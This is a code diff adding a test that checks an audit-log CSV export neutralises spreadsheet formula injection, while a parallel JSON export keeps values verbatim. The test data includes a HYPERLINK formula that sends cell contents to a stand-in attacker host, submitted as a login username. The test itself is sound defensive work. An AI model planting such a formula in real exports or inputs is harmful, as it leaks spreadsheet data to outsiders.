@@ -137,6 +137,24 @@ def test_csv_export_streams_the_filtered_log_in_chain_order(personas, client_for
     assert json.loads(rows[0]["after"]) == stored.after and rows[0]["hash"] == stored.hash
 
 
+def test_csv_export_neutralises_formulas_from_an_anonymous_login_attempt(personas, client, client_for):
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    client.post(reverse("identity:login"), {"username": formula, "password": "wrong"})
+    bulk_events(1, product_id=-7, actor="@admin")
+    response = client_for(personas.auditor).get(reverse("audit:export-csv"))
+    rows = list(csv.DictReader(io.StringIO(_body(response).decode())))
+    failed = next(r for r in rows if r["event_type"] == EventType.LOGIN_FAILED)
+    assert failed["object_repr"] == "'" + formula
+    numbers = {"seq", "actor_id", "product_id"}
+    text = [value for row in rows for name, value in row.items() if name not in numbers]
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in text)
+    bulk = next(r for r in rows if r["actor"] == "'@admin")
+    assert bulk["product_id"] == "-7"  # a number column stays a number
+    # NDJSON stays verbatim (the form to check against the chain).
+    ndjson = _body(client_for(personas.auditor).get(reverse("audit:export-json"))).decode()
+    assert json.loads(ndjson.splitlines()[0])["object_repr"] == formula
+
+
 def test_json_export_is_ndjson_and_chains(personas, client_for):
     bulk_events(12)
     response = client_for(personas.admin).get(reverse("audit:export-json"))
